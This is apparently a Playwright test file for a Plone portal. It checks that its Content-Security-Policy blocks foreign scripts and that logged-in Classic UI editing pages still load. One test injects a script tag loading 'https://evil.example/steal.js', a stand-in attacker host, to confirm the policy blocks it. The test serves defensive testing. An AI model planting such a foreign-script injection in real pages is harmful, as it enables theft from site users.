"""The Content-Security-Policy as chromium applies it: Classic UI works
(logged-in pages with the toolbar and TinyMCE included, checked by every
browser test through ``BrowserMixin``), and what the policy is for is
blocked: a script from another site."""

from playwright.sync_api import expect
from plone import api
from plone.app.testing import SITE_OWNER_NAME
from plone.testing.zope import login
from plone.testing.zope import logout
from ptsp_portal.testing import DISTRIBUTION_BROWSER_TESTING
from ptsp_portal.testing import SITE_ID
from tests.browser.base import BrowserMixin
from zope.component.hooks import setSite

import transaction
import unittest

PASSWORD = "rahasia-12345"


class TestContentSecurityPolicy(BrowserMixin, unittest.TestCase):
    layer = DISTRIBUTION_BROWSER_TESTING
    viewport = {"width": 1280, "height": 900}

    def setUp(self):
        app = self.layer["app"]
        self.site_url = f"{app.absolute_url()}/{SITE_ID}"
        setSite(app[SITE_ID])
        login(app["acl_users"], SITE_OWNER_NAME)
        try:
            api.user.create(email="k@example.org", username="kepala", password=PASSWORD, roles=("Manager",))
            transaction.commit()
        finally:
            logout()

    def test_foreign_script_is_blocked_and_reported(self):
        page = self.new_page()
        response = page.goto(self.site_url)
        self.assertIn("script-src 'self'", response.headers["content-security-policy"])
        page.evaluate(
            """() => { const s = document.createElement("script");
                       s.src = "https://evil.example/steal.js"; document.head.appendChild(s); }"""
        )
        page.wait_for_timeout(500)
        violations, self.csp_violations = self.csp_violations, []
        self.assertTrue(violations)
        self.assertIn("script-src", violations[0])

    def test_editing_pages_of_classic_ui(self):
        page = self.new_page()
        page.goto(f"{self.site_url}/login")
        page.locator("#__ac_name").fill("kepala")
        page.locator("#__ac_password").fill(PASSWORD)
        with page.expect_navigation():
            page.locator("[name='buttons.login']").click()
        expect(page.locator("#__ac_password")).to_have_count(0)
        page.goto(f"{self.site_url}/berita/++add++News Item")
        expect(page.locator("#form-widgets-IDublinCore-title")).to_be_visible()
        # TinyMCE is up (its editor iframe or content area)
        expect(page.locator(".tox-tinymce").first).to_be_visible()
        page.goto(f"{self.site_url}/folder_contents")
        expect(page.locator(".pat-structure, #structure").first).to_be_visible()
        page.goto(f"{self.site_url}/@@overview-controlpanel")
        expect(page.locator("#content")).to_be_visible()
